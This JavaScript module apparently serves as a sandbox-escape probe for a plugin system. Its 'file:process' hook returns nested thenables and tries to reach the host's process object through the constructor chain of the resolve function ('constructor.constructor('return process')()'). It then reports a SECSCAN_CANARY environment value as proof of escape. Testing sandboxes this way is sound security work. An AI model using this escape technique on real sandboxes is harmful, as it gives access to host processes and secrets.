// Thenables that settle with thenables, more than once.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const nested = (depth) => ({
      then(resolve, reject) {
        look(resolve);
        if (depth === 0) {
          resolve({ metadata: verdict() });
          reject(new Error('twice'));
          resolve({ metadata: {} });
        } else resolve(nested(depth - 1));
      },
    });
    return nested(50);
    return { metadata: verdict() };
  },
};
